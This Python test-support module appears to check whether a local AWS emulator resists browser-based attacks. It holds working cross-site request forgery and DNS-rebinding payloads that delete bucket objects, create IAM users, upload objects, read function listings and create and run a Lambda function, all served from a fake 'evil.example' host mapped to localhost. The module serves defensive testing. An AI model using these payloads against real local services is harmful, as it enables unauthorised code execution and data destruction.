"""Web pages that mean harm, and what each has done when a browser has opened it."""

from __future__ import annotations

import base64
import contextlib
import dataclasses
import functools
import http.server
import json
import threading
import uuid
from collections.abc import Callable, Iterator
from typing import Any
from urllib.parse import urlsplit

from playwright.sync_api import Browser, Page, sync_playwright

from scripts import chromium
from testbed.aws import Aws
from tests.support import functions

# Both names lead to this machine: the attacker's own, and one that was pointed here afterwards.
EVIL, REBOUND = "evil.example", "rebound.example"
RESOLVER = f"--host-resolver-rules=MAP {EVIL} 127.0.0.1, MAP {REBOUND} 127.0.0.1"
STEP_MS = 15_000
BUCKET = "somebodys-bucket"
HANDLER = "def handler(event, context):\n    return 'ran'\n"


@dataclasses.dataclass(frozen=True)
class Victim:
    """An emulator that a page is after.

    Attributes:
        aws: the owner's way to it.
        port: where it listens.
        pages: the attacker's web server.
        browser: of the person who visits.
    """

    aws: Aws
    port: int
    pages: Pages
    browser: Browser

    @property
    def url(self) -> str:
        return f"http://localhost:{self.port}"

    def object_of(self, key: str) -> bool:
        listed = self.aws.s3.list_objects_v2(Bucket=BUCKET, Prefix=key)
        return bool(listed.get("Contents"))

    @contextlib.contextmanager
    def visit(self, html: str, host: str = EVIL) -> Iterator[Page]:
        """Open *html* as a page of *host*; it says in its title when it is through."""
        page = self.browser.new_page()
        page.set_default_timeout(STEP_MS)
        try:
            page.goto(self.pages.put(html, host))
            yield page
        finally:
            page.close()

    def visited(self, html: str, host: str = EVIL) -> str:
        """Open *html*, wait until it is through, and give the result that its title tells."""
        with self.visit(html, host) as page:
            page.wait_for_function("document.title.startsWith('done')")
            return page.title().removeprefix("done").strip()


class Pages:
    """Serves pages under any name that leads to this machine."""

    def __init__(self) -> None:
        self._html: dict[str, bytes] = {}
        self._server = http.server.ThreadingHTTPServer(
            ("127.0.0.1", 0), functools.partial(_Handler, self._html)
        )
        threading.Thread(target=self._server.serve_forever, daemon=True).start()

    def put(self, html: str, host: str = EVIL) -> str:
        """Give the address of a page of *html*."""
        path = f"/{uuid.uuid4().hex}"
        self._html[path] = html.encode()
        return f"http://{host}:{self._server.server_port}{path}"

    def close(self) -> None:
        self._server.shutdown()
        self._server.server_close()


class _Handler(http.server.BaseHTTPRequestHandler):
    def __init__(self, html: dict[str, bytes], *arguments: Any) -> None:
        self._html = html
        super().__init__(*arguments)

    def do_GET(self) -> None:
        page = self._html.get(urlsplit(self.path).path)
        self.send_response(404 if page is None else 200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Content-Length", str(len(page or b"")))
        self.end_headers()
        self.wfile.write(page or b"")

    def log_message(self, *_: object) -> None:
        """The tests say what they saw."""


@contextlib.contextmanager
def world() -> Iterator[tuple[Pages, Browser]]:
    """The attacker's web server, and a browser that finds it under its names."""
    pages = Pages()
    with sync_playwright() as playwright:
        browser = chromium.launch(playwright, RESOLVER)
        yield pages, browser
        browser.close()
    pages.close()


def prepare(aws: Aws) -> None:
    """Give an emulator what attacks are after."""
    where: Any = {"LocationConstraint": aws.region}
    aws.s3.create_bucket(Bucket=BUCKET, CreateBucketConfiguration=where)
    aws.s3.put_object(Bucket=BUCKET, Key="victim.txt", Body=b"mine")


# Each gives whether it has reached its aim.


def code_on_the_machine(victim: Victim) -> bool:
    """A form stores a page among the objects; opened there, it makes a function and runs it."""
    name = f"evil-{uuid.uuid4().hex[:8]}"
    stored = f"{name}.html"
    archive = base64.b64encode(functions.zipped(HANDLER)).decode()
    function = {
        "FunctionName": name,
        "Runtime": "python3.13",
        "Handler": "app.handler",
        "Role": functions.ROLE,
        "Code": {"ZipFile": archive},
    }
    second = f"""<script>
      fetch('/2015-03-31/functions', {{
        method: 'POST', body: JSON.stringify({json.dumps(function)})
      }}).then(made => document.title = 'done ' + made.status)
        .catch(() => document.title = 'done refused');
    </script>"""
    first = f"""<form method=POST enctype=multipart/form-data action="{victim.url}/{BUCKET}">
      <input name=key value="{stored}"><input name=Content-Type value="text/html">
      <input name=success_action_redirect value="{victim.url}/{BUCKET}/{stored}">
      <input name=file type=file></form>
    <script>
      const files = new DataTransfer();
      const html = {json.dumps(second).replace("</", "<\\/")};
      files.items.add(new File([html], "x", {{type: "text/html"}}));
      document.querySelector('[name=file]').files = files.files;
      document.forms[0].submit();
    </script>"""
    with victim.visit(first) as page:
        page.wait_for_function(
            "location.port == PORT && (document.title.startsWith('done')"
            " || document.body.innerText.length > 0)".replace("PORT", str(victim.port))
        )
        return page.title() == "done 201"


def objects_deleted(victim: Victim) -> bool:
    """A form whose text is the XML of DeleteObjects."""
    html = f"""<iframe name=there onload="document.title = 'done'"></iframe>
    <form method=POST target=there enctype=text/plain action="{victim.url}/{BUCKET}?delete">
      <textarea name='&lt;Delete xmlns'>"http://s3.amazonaws.com/doc/2006-03-01/"&gt;&lt;Object&gt;&lt;Key&gt;victim.txt&lt;/Key&gt;&lt;/Object&gt;&lt;/Delete&gt;</textarea>
    </form><script>onload = () => {{ document.title = ''; document.forms[0].submit(); }}</script>"""
    victim.visited(html)
    return not victim.object_of("victim.txt")


def user_made_by_an_image(victim: Victim) -> bool:
    """An action of the Query protocol in the address of an image that tells no referrer."""
    name = f"evil-{uuid.uuid4().hex[:8]}"
    html = f"""<img referrerpolicy=no-referrer onload="document.title='done'"
      onerror="document.title='done'"
      src="{victim.url}/?Action=CreateUser&UserName={name}&Version=2010-05-08">"""
    victim.visited(html)
    return name in {user["UserName"] for user in victim.aws.iam.list_users()["Users"]}


def functions_read_by_rebinding(victim: Victim) -> bool:
    """A page whose own name was pointed here reads as if it were of the emulator's origin."""
    page = victim.browser.new_page()
    try:
        page.goto(f"http://{REBOUND}:{victim.port}/_localstack/health")
        text: str = page.evaluate(
            "fetch('/2015-03-31/functions', {referrerPolicy: 'no-referrer'})"
            ".then(one => one.text())"
        )
        return "Functions" in text
    finally:
        page.close()


def upload_without_origin(victim: Victim) -> bool:
    """A frame in a sandbox has the origin null."""
    return _uploaded(victim, lambda script: f"<iframe sandbox=allow-scripts srcdoc='{script}'>")


def upload_from_another_port(victim: Victim) -> bool:
    """The same site, and not the same origin: another server of this machine."""
    return _uploaded(victim, lambda script: script, host="localhost")


def upload_by_fetch(victim: Victim) -> bool:
    """A request that a browser sends without asking first, for it looks like a form's."""
    return _uploaded(victim, lambda script: script)


def _uploaded(victim: Victim, page: Callable[[str], str], host: str = EVIL) -> bool:
    key = f"evil-{uuid.uuid4().hex[:8]}"
    script = f"""<script>
      const form = new FormData();
      form.append("key", "{key}"); form.append("file", "x");
      fetch("{victim.url}/{BUCKET}", {{method: "POST", mode: "no-cors", body: form}})
        .finally(() => parent.postMessage("through", "*"));
    </script>"""
    listen = "<script>onmessage = () => document.title = 'done'</script>"
    victim.visited(listen + page(script), host)
    return victim.object_of(key)


ATTACKS: tuple[Callable[[Victim], bool], ...] = (
    code_on_the_machine,
    objects_deleted,
    user_made_by_an_image,
    functions_read_by_rebinding,
    upload_without_origin,
    upload_from_another_port,
    upload_by_fetch,
)
